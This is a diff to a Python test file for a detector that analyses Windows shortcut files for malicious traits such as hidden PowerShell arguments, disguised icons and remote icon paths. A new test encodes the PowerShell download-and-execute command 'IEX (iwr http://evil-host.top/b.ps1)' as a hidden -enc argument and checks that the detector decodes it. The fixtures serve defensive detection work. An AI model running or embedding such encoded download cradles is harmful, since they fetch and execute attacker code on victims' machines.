@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import importlib.util
 import io
 from pathlib import Path
@@ -52,7 +53,7 @@ def test_a_shortcut_to_a_program_is_ordinary_and_tells_its_target():
 TRAITS = {
     "a shell with arguments": (made.shortcut(POWERSHELL, CRADLE), "starts_shell"),
     "arguments out of sight": (made.shortcut(POWERSHELL, " " * 300 + CRADLE), "padded_arguments"),
-    "long arguments": (made.shortcut(POWERSHELL, "-c " + "a" * 400), "long_arguments"),
+    "long arguments": (made.shortcut(POWERSHELL, "-c " + "Get-Date; " * 40), "long_arguments"),
     "a document's icon": (made.shortcut(POWERSHELL, CRADLE, icon="C:\\Reader\\AcroRd32.exe"), "disguised"),
     "an icon on a share": (made.shortcut("C:\\a.exe", icon="\\\\45.9.148.3\\s\\a.ico"), "remote_icon"),
     "a minimised window": (made.shortcut(POWERSHELL, CRADLE, window=7), "hidden_window"),
@@ -79,6 +80,13 @@ def test_a_cradle_in_disguise_is_malicious_and_shown_whole():
     assert verdict(data) == "malicious"
     assert CRADLE in section.SECTION.body(items)
     assert "http://evil-host.top/a" in {f.attributes.get("value") for f in items if f.kind == "indicator"}
+
+
+def test_an_encoded_command_is_decoded_and_its_address_is_an_indicator():
+    encoded = base64.b64encode("IEX (iwr http://evil-host.top/b.ps1)".encode("utf-16-le")).decode()
+    items = found(made.shortcut(POWERSHELL, f"-w hidden -enc {encoded}"))
+    assert "decoded code" in {f.attributes.get("part") for f in items}
+    assert "http://evil-host.top/b.ps1" in {f.attributes.get("value") for f in items if f.kind == "indicator"}
 
 
 def test_what_is_no_shortcut_is_a_gap():
